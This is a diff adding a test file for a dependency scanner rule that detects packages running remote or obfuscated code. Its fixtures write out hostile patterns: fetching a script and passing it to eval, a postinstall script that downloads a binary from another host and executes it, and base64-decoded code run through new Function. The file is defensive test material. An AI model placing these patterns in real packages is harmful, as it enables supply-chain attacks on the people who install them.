@@ -1,0 +1,148 @@
+import { remoteCodeRun } from '../../../src/rules/code/remote-code-run.js'
+import type { Confidence, Severity } from '../../../src/rules/rule.js'
+import { anAnalysedPackage } from '../../builders/analysed-package.js'
+import { type CodeEvidence, codeFacts, codeObservation } from '../../builders/code-finding.js'
+import { aDependencyChange } from '../../builders/dependency-change.js'
+import { testRule } from '../../rule-tester.js'
+
+const upgrade = aDependencyChange()
+const addition = aDependencyChange({ before: null })
+
+const observation = (
+  message: string,
+  severity: Severity,
+  confidence: Confidence,
+  ...evidence: readonly CodeEvidence[]
+) => codeObservation(message, evidence, { severity, confidence })
+
+const downloaded = 'runs as code what somebody else sends it'
+const decoded = 'runs as code what it decodes first, so that nobody can read it'
+
+const pad = { 'index.js': 'module.exports = (text, width) => text.padStart(width)\n' }
+const added = async (files: Record<string, string>, manifest: object = {}) => ({
+  package: await anAnalysedPackage(files, manifest),
+})
+
+const evaluates = "fetch('https://cdn.example/x.js').then((r) => r.text()).then(eval)"
+const asked = 'exports.load = (url) => fetch(url).then((r) => r.text()).then(eval)'
+const unpacks = "const text = Buffer.from(require('./words').text, 'base64').toString()"
+/** Fetches a program, keeps it and starts it. */
+const installs = (host: string) => ({
+  'install.js': `const res = await fetch('https://${host}/pad/pad')
+require('fs').writeFileSync('/tmp/pad', Buffer.from(await res.arrayBuffer()))
+require('child_process').execFileSync('/tmp/pad', ['--version'])`,
+})
+const installing = { scripts: { postinstall: 'node install.js' }, homepage: 'https://pad.example' }
+
+testRule(remoteCodeRun, {
+  clear: [
+    {
+      name: 'a template that is compiled',
+      subject: addition,
+      facts: await added({ 'index.js': "exports.compile = (text) => new Function('data', 'return `' + text + '`')" }),
+    },
+    {
+      name: "a program from the package's own host",
+      subject: addition,
+      facts: await added(installs('dl.pad.example'), installing),
+    },
+    {
+      name: 'a newer version that is named in a known command',
+      subject: addition,
+      facts: await added({
+        'index.js':
+          "exports.update = async () => { const { tag } = await (await fetch('https://cdn.example/v')).json()\nrequire('child_process').execSync('npm install pad@' + tag) }",
+      }),
+    },
+    {
+      name: 'data that is fetched and kept',
+      subject: upgrade,
+      facts: await codeFacts(pad, {
+        'index.js':
+          "exports.update = async () => require('fs').writeFileSync('x.json', await (await fetch('https://cdn.example/x')).text())",
+      }),
+    },
+    {
+      name: 'what the version before did as well',
+      subject: upgrade,
+      facts: await codeFacts({ 'index.js': evaluates }, { 'index.js': `// changed\n${evaluates}` }),
+    },
+    {
+      name: 'a test that nothing loads',
+      subject: upgrade,
+      facts: await codeFacts(pad, { ...pad, 'test/run.js': evaluates }),
+    },
+  ],
+  flagged: [
+    {
+      name: 'a download that is evaluated on load',
+      subject: upgrade,
+      facts: await codeFacts(pad, { 'index.js': evaluates }),
+      observations: [
+        observation(
+          downloaded,
+          'critical',
+          'high',
+          ['downloaded', evaluates, 'index.js', 1, 1],
+          ['run', evaluates, 'index.js', 1, 1],
+        ),
+      ],
+    },
+    {
+      name: 'a program of another host that an installer starts',
+      subject: addition,
+      facts: await added(installs('cdn.example'), installing),
+      observations: [
+        observation(
+          downloaded,
+          'critical',
+          'high',
+          ['downloaded', "const res = await fetch('https://cdn.example/pad/pad')", 'install.js', 1, 19],
+          ['run', "require('child_process').execFileSync('/tmp/pad', ['--version'])", 'install.js', 3, 1],
+        ),
+      ],
+    },
+    {
+      name: 'a program that is decoded and run',
+      subject: upgrade,
+      facts: await codeFacts(pad, { 'index.js': `${unpacks}\nnew Function(text)()` }),
+      observations: [
+        observation(
+          decoded,
+          'critical',
+          'high',
+          ['decoded', unpacks, 'index.js', 1, 14],
+          ['run', 'new Function(text)()', 'index.js', 2, 1],
+        ),
+      ],
+    },
+    {
+      name: 'a loader that a new version has, whose address its caller gives',
+      subject: upgrade,
+      facts: await codeFacts(pad, { 'index.js': asked }),
+      observations: [
+        observation(
+          downloaded,
+          'high',
+          'medium',
+          ['downloaded', asked, 'index.js', 1, 25],
+          ['run', asked, 'index.js', 1, 25],
+        ),
+      ],
+    },
+    {
+      name: 'a new package that is such a loader',
+      subject: addition,
+      facts: await added({ 'index.js': asked }),
+      observations: [
+        observation(
+          downloaded,
+          'medium',
+          'medium',
+          ['downloaded', asked, 'index.js', 1, 25],
+          ['run', asked, 'index.js', 1, 25],
+        ),
+      ],
+    },
+  ],
+})
